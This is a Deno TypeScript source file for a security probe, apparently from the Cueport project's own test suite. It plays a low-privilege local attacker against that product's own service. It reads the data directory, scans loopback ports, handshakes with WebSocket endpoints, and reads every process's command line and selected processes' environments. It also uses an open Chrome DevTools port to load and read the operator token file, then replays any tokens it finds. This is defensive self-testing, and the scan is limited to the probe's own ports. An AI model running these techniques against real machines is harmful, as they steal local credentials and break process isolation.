/**
 * The attacking part of the `other_account` probe, run as uid 65534 (`nobody`) by
 * `other_account.ts`: what a program of another local account can reach of
 * Cueport. It imports nothing (it runs with `--no-config`, as that account) and
 * prints one JSON line: the loopback ports listening, those that answer DevTools'
 * `/json/version`, and the text of every route it could read (the data dir's
 * files, the pages of every loopback port, what any page or editor socket sends
 * without a secret, the command lines of all processes, the environment and
 * command line of the Cueport processes given), after trying any DevTools port
 * found to read the operator token as a `file://` page. The probe, as root,
 * looks for the token in that text; an operator token found is tried on
 * `/api/v1/devices` here.
 *
 * ```sh
 * setpriv --reuid=65534 --regid=65534 --clear-groups deno run --no-config -A \
 *   tools/reliability/_other_account_attacker.ts '{"dataDir":"...","httpPort":17736,"pids":[1,2]}'
 * ```
 * @module
 */

/** What the probe hands the attacker. */
interface Given {
  dataDir: string;
  httpPort: number;
  pids: number[];
  /**
   * The ports the probe's own service, player and browser listen on: only those are opened
   * past `/json/version` (this machine runs other programs' browsers, which the probe leaves be).
   */
  ownPorts: number[];
}

/** One route read: where, and the text it gave (at most 64 KiB). */
interface Read {
  route: string;
  text: string;
}

const KEEP = 64 * 1024;
const latin1 = new TextDecoder("latin1");
const reads: Read[] = [];
const errors: string[] = [];

function keep(route: string, text: string): void {
  if (text.length > 0) reads.push({ route, text: text.slice(0, KEEP) });
}

async function readText(path: string): Promise<string | null> {
  try {
    const file = await Deno.open(path);
    try {
      const buffer = new Uint8Array(KEEP);
      const n = await file.read(buffer);
      return latin1.decode(buffer.subarray(0, n ?? 0));
    } finally {
      file.close();
    }
  } catch (error) {
    errors.push(`${path}: ${(error as Error).name}`);
    return null;
  }
}

/** Every file under the data dir, as far as this account can list and read it. */
async function dataDir(dir: string, depth = 0): Promise<void> {
  if (depth > 4) return;
  try {
    for await (const entry of Deno.readDir(dir)) {
      const path = `${dir}/${entry.name}`;
      if (entry.isDirectory) await dataDir(path, depth + 1);
      else keep(`data dir ${path}`, (await readText(path)) ?? "");
    }
  } catch (error) {
    errors.push(`list ${dir}: ${(error as Error).name}`);
  }
}

/** The loopback TCP ports listening, from /proc/net/tcp{,6}. */
async function loopbackPorts(): Promise<number[]> {
  const ports = new Set<number>();
  for (const file of ["/proc/net/tcp", "/proc/net/tcp6"]) {
    const text = (await readText(file)) ?? "";
    for (const line of text.split("\n").slice(1)) {
      const f = line.trim().split(/\s+/);
      if (f[3] !== "0A") continue;
      const [address, port] = (f[1] ?? "").split(":");
      const isLoopback = isLoopbackHex(address ?? "");
      if (isLoopback) ports.add(parseInt(port ?? "0", 16));
    }
  }
  return [...ports];
}

/** 127.0.0.0/8, 0.0.0.0, ::1, :: and ::ffff:127.x as /proc/net writes them (hex, little-endian). */
function isLoopbackHex(hex: string): boolean {
  if (hex.length === 8) return /7F$/i.test(hex) || /^0{8}$/.test(hex);
  return /^0{24}01000000$/.test(hex) || /^0+$/.test(hex) || /^0{16}FFFF0000.{6}7F$/i.test(hex);
}

async function get(
  url: string,
  init: RequestInit = {},
): Promise<{ status: number; text: string } | null> {
  try {
    const res = await fetch(url, { ...init, signal: AbortSignal.timeout(1500) });
    return { status: res.status, text: (await res.text()).slice(0, KEEP) };
  } catch {
    return null;
  }
}

/** Raw WebSocket handshake (any Origin) and what the server sends within 1.5 s. */
async function socketText(port: number, path: string): Promise<string> {
  try {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    const origin = `http://127.0.0.1:${port}`;
    await conn.write(new TextEncoder().encode(
      `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: ${origin}\r\nUpgrade: websocket\r\n` +
        `Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    ));
    let text = "";
    const buffer = new Uint8Array(16 * 1024);
    const deadline = Date.now() + 1500;
    while (Date.now() < deadline && text.length < KEEP) {
      const n = await Promise.race([
        conn.read(buffer),
        new Promise<null>((r) => setTimeout(() => r(null), Math.max(0, deadline - Date.now()))),
      ]);
      if (n === null) break;
      text += latin1.decode(buffer.subarray(0, n));
    }
    conn.close();
    return text.startsWith("HTTP/1.1 101") ? text : "";
  } catch {
    return "";
  }
}

/** Through a DevTools port: the data dir's token file opened as a page, its text read. */
async function throughDevTools(port: number, path: string): Promise<string> {
  const target = await get(`http://127.0.0.1:${port}/json/new?file://${path}`, { method: "PUT" });
  const ws = target ? JSON.parse(target.text).webSocketDebuggerUrl : undefined;
  if (typeof ws !== "string") return "";
  return await new Promise<string>((resolve) => {
    const socket = new WebSocket(ws);
    const timer = setTimeout(() => finish(""), 10_000);
    let id = 0;
    const finish = (text: string) => {
      clearTimeout(timer);
      socket.close();
      resolve(text);
    };
    // Asked every half second until the page has loaded and shows text.
    const ask = () =>
      socket.send(JSON.stringify({
        id: ++id,
        method: "Runtime.evaluate",
        params: { expression: "document.body ? document.body.innerText : ''" },
      }));
    socket.onopen = ask;
    socket.onmessage = (event) => {
      const value = String(JSON.parse(event.data).result?.result?.value ?? "");
      if (value !== "") finish(value);
      else setTimeout(ask, 500);
    };
    socket.onerror = () => finish("");
  });
}

async function main(given: Given): Promise<void> {
  await dataDir(given.dataDir);
  const ports = await loopbackPorts();
  const devtools: { port: number; browser: string }[] = [];
  const otherDevtools: number[] = [];
  const own = new Set(given.ownPorts);
  await Promise.all(ports.map(async (port) => {
    const version = await get(`http://127.0.0.1:${port}/json/version`);
    const isDevTools = version?.status === 200 &&
      /webSocketDebuggerUrl|"Browser"/.test(version.text);
    if (!own.has(port)) {
      if (isDevTools) otherDevtools.push(port);
      return;
    }
    if (isDevTools) {
      devtools.push({ port, browser: JSON.parse(version.text).Browser ?? "?" });
      keep(
        `DevTools ${port} /json/list`,
        (await get(`http://127.0.0.1:${port}/json/list`))?.text ?? "",
      );
      keep(
        `DevTools ${port} file:// page of the token`,
        await throughDevTools(port, `${given.dataDir}/auth/operator-token`),
      );
    }
    keep(`GET / on ${port}`, (await get(`http://127.0.0.1:${port}/`))?.text ?? "");
    for (const path of ["/ws", "/editor-ws"]) {
      keep(`socket ${port}${path}`, await socketText(port, path));
    }
  }));
  const commandLines: string[] = [];
  for await (const entry of Deno.readDir("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    const text = await readText(`/proc/${entry.name}/cmdline`);
    if (text) commandLines.push(text.replaceAll("\0", " "));
  }
  keep("ps: every command line", commandLines.join("\n"));
  for (const m of commandLines.join("\n").matchAll(/http:\/\/127\.0\.0\.1:(\d+)(\/[^\s"']*)/g)) {
    if (!own.has(Number(m[1]))) continue;
    const base = m[2]!.replace(/[^/]*$/, "");
    keep(`page ${m[1]}${base}`, (await get(`http://127.0.0.1:${m[1]}${base}`))?.text ?? "");
    for (const name of ["ws", "editor-ws"]) {
      keep(`socket ${m[1]}${base}${name}`, await socketText(Number(m[1]), `${base}${name}`));
    }
  }
  for (const pid of given.pids) {
    for (const file of ["environ", "cmdline"]) {
      keep(
        `/proc/${pid}/${file}`,
        ((await readText(`/proc/${pid}/${file}`)) ?? "").replaceAll("\0", "\n"),
      );
    }
  }
  const tokens = new Set(
    reads.flatMap((r) => r.text.match(/cueport-operator-[0-9a-f]{16,}/g) ?? []),
  );
  const tokenAnswers: number[] = [];
  for (const token of tokens) {
    const answer = await get(`http://127.0.0.1:${given.httpPort}/api/v1/devices`, {
      headers: { authorization: `Bearer ${token}` },
    });
    tokenAnswers.push(answer?.status ?? 0);
  }
  console.log(
    JSON.stringify({
      uid: Deno.uid(),
      ports: ports.length,
      devtools,
      otherDevtools,
      reads,
      tokenAnswers,
      errors,
    }),
  );
}

if (import.meta.main) await main(JSON.parse(Deno.args[0]!) as Given);
